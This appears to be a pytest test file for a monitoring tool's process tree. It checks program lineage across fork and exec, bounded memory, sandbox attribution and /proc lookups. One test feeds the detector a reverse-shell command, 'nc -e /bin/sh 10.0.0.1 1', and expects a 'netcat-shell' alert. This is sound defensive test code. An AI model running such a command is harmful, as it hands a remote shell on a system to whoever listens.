"""The process tree: right, bounded, and at peace with what it was not told."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from monitor.events import CALL, Rig, happened, x

from clawos.monitor.event import Event
from clawos.monitor.proc import ProcLook
from clawos.monitor.sandboxes import KNOWN_MAX, Sandboxes
from clawos.monitor.tree import GONE_KEPT, LIFE, LINEAGE_MAX, Process, Tree

Found = tuple[str, tuple[str, ...]] | None


def tree(maximum: int = 1024, found: Found = None) -> Tree:
    return Tree(Sandboxes(), lambda _: found, maximum)


def event(
    kind: str, tgid: int, *, start: int | None = None, ppid: int = 0, call: str = "", **own: Any
) -> Event:
    made = happened(kind, tgid=tgid, call=call, ppid=ppid, **own)
    made.start_ns = tgid * 10 if start is None else start
    made.parent_start_ns = ppid * 10
    made.process = None
    return made


def feed(tree: Tree, *events: Event) -> Process:
    for one in events:
        process = tree.of(one)
        if one.kind in LIFE:
            LIFE[one.kind](tree, one, process)
    return process


def fork(parent: int, child: int, **more: Any) -> Event:
    return event("fork", parent, child_pid=child, child_start_ns=child * 10, **more)


def run(tgid: int, path: str, **more: Any) -> Event:
    return event("exec", tgid, path=path, args=[path], **more)


def test_programs_and_ancestors() -> None:
    made = tree()
    process = feed(
        made,
        run(1, "/sbin/init"),
        fork(1, 2),
        run(2, "/usr/bin/login"),
        fork(2, 3),
        run(3, "/usr/bin/bash"),
        fork(3, 4),
        event("open", 4, path="/x"),
    )
    assert process.exe == "/usr/bin/bash", "between fork and exec it is what its parent is"
    assert process.lineage == ("/usr/bin/bash", "/usr/bin/login", "/sbin/init")
    process = feed(made, run(4, "/usr/bin/id"))
    assert (process.exe, process.parent) == ("/usr/bin/id", "/usr/bin/bash")


def test_a_parent_that_becomes_another_program_is_so_for_later_children_only() -> None:
    made = tree()
    feed(made, run(1, "/a"), fork(1, 2), run(1, "/b"), fork(1, 3))
    assert feed(made, event("open", 2)).parent == "/a"
    assert feed(made, event("open", 3)).parent == "/b"


def test_a_number_that_comes_again_is_another_process() -> None:
    made = tree()
    feed(made, run(5, "/a", start=1), event("exit", 5, start=1))
    assert feed(made, event("open", 5, start=2)).exe == ""


def test_an_exit_of_a_thread_ends_no_process() -> None:
    made = tree()
    thread = event("exit", 5)
    thread.pid = 6
    feed(made, run(5, "/a"), thread, *(event("exit", 100 + n) for n in range(GONE_KEPT + 5)))
    assert feed(made, event("open", 5)).exe == "/a"


def test_late_events_of_a_process_that_is_over_find_it() -> None:
    made = tree()
    assert feed(made, run(5, "/a"), event("exit", 5), event("open", 5)).exe == "/a"
    assert made.met == 1


def test_a_lost_fork_is_made_good_by_the_parent_that_the_event_names() -> None:
    made = tree()
    feed(made, run(1, "/init"), fork(1, 2), run(2, "/usr/sbin/nginx"))
    process = feed(made, run(3, "/bin/sh", ppid=2))
    assert (process.exe, process.lineage) == ("/bin/sh", ("/usr/sbin/nginx", "/init"))
    assert feed(made, event("open", 4, ppid=3)).exe == "/bin/sh"


def test_what_was_there_before_is_looked_up() -> None:
    made = tree(found=("/usr/sbin/sshd", ("/sbin/init",)))
    process = feed(made, event("open", 9))
    assert (process.exe, process.parent) == ("/usr/sbin/sshd", "/sbin/init")


def test_a_million_forks_in_a_row_keep_a_bounded_lineage() -> None:
    made = tree()
    feed(made, run(1, "/0"))
    for n in range(1, 3000):
        feed(made, fork(n, n + 1), event("exit", n), run(n + 1, f"/{n}"))
    assert len(feed(made, event("open", 3000)).lineage) == LINEAGE_MAX
    assert len(made.processes) <= GONE_KEPT + 2


def test_the_tree_is_bounded_and_those_that_are_over_go_first() -> None:
    made = tree(1024)
    feed(made, run(1, "/old-and-alive"))
    for n in range(2, 5000):
        feed(made, run(n, "/x"), event("exit", n))
    assert len(made.processes) <= 1024
    assert feed(made, event("open", 1)).exe == "/old-and-alive"
    for n in range(5000, 9000):
        feed(made, run(n, "/y"))
    assert len(made.processes) == 1024


def test_a_process_that_enters_a_sandbox_is_the_sandboxs() -> None:
    made = tree()
    outside = feed(made, run(5, "/usr/lib/clawos/claw-launch"))
    assert outside.sandbox is None
    inside = feed(made, event("open", 5, call=CALL))
    assert inside.sandbox is not None
    assert inside.sandbox.id == CALL
    child = feed(made, fork(5, 6, call=CALL), event("open", 6, call=CALL))
    assert child.sandbox is inside.sandbox


def test_calls_that_are_known_are_bounded() -> None:
    known = Sandboxes()
    for n in range(KNOWN_MAX + 100):
        known.of(f"{n:016x}")
    assert len(known) == KNOWN_MAX
    assert len(known.untold) == KNOWN_MAX


def test_counts_of_the_engine() -> None:
    rig = Rig()
    rig.feed(
        happened("exec", path="/a", args=["a"], args_truncated=False, links=1),
        happened("exit", code=0, signal=0),
    )
    assert rig.engine.counts["exec"] == rig.engine.counts["exit"] == 1


def test_a_mistake_with_one_event_does_not_end_the_watch(caplog: pytest.LogCaptureFixture) -> None:
    rig = Rig()
    broken = happened("exec", args=["a"])  # without a path
    assert rig.feed(broken, broken, x("nc -e /bin/sh 10.0.0.1 1")) >= {"netcat-shell"}
    assert rig.engine.failed == 2
    assert len([record for record in caplog.records if "passed over" in record.message]) == 1


def test_proc_tells_of_a_process_and_its_ancestors() -> None:
    look = ProcLook()
    found = look(os.getpid())
    assert found is not None
    exe, lineage = found
    assert exe == str(Path("/proc/self/exe").readlink())
    assert 0 < len(lineage) <= LINEAGE_MAX
    assert look(2**22 + 1) is None


@pytest.mark.parametrize(
    ("title", "exe"),
    [
        (b"/usr/bin/env\0-i\0", "/usr/bin/env"),
        (b"-sh\0", str(Path("/usr/bin/sh").resolve())),
        (b"sshd: somebody [priv]\0", ""),
        (b"", ""),
    ],
)
def test_where_the_program_is_not_shown_the_command_line_tells(
    tmp_path: Path, title: bytes, exe: str
) -> None:
    """/proc/PID/exe of others is not for an unprivileged reader."""
    process = tmp_path / "77"
    process.mkdir()
    (process / "cmdline").write_bytes(title)
    (process / "stat").write_text("77 (a) b) S 0 77 77")
    code = (
        "import os, sys; sys.path.insert(0, sys.argv[1]);"
        "from pathlib import Path; from clawos.monitor import proc;"
        "real = Path.readlink;"
        "deny = lambda self: (_ for _ in ()).throw(PermissionError()) if self.name == 'exe' else real(self);"
        "Path.readlink = deny; print(proc.ProcLook(Path(sys.argv[2]))(77)[0])"
    )
    source = Path(__file__).parents[2] / "src"
    done = subprocess.run(
        [sys.executable, "-c", code, source, tmp_path], capture_output=True, text=True, check=True
    )
    assert done.stdout == exe + "\n"
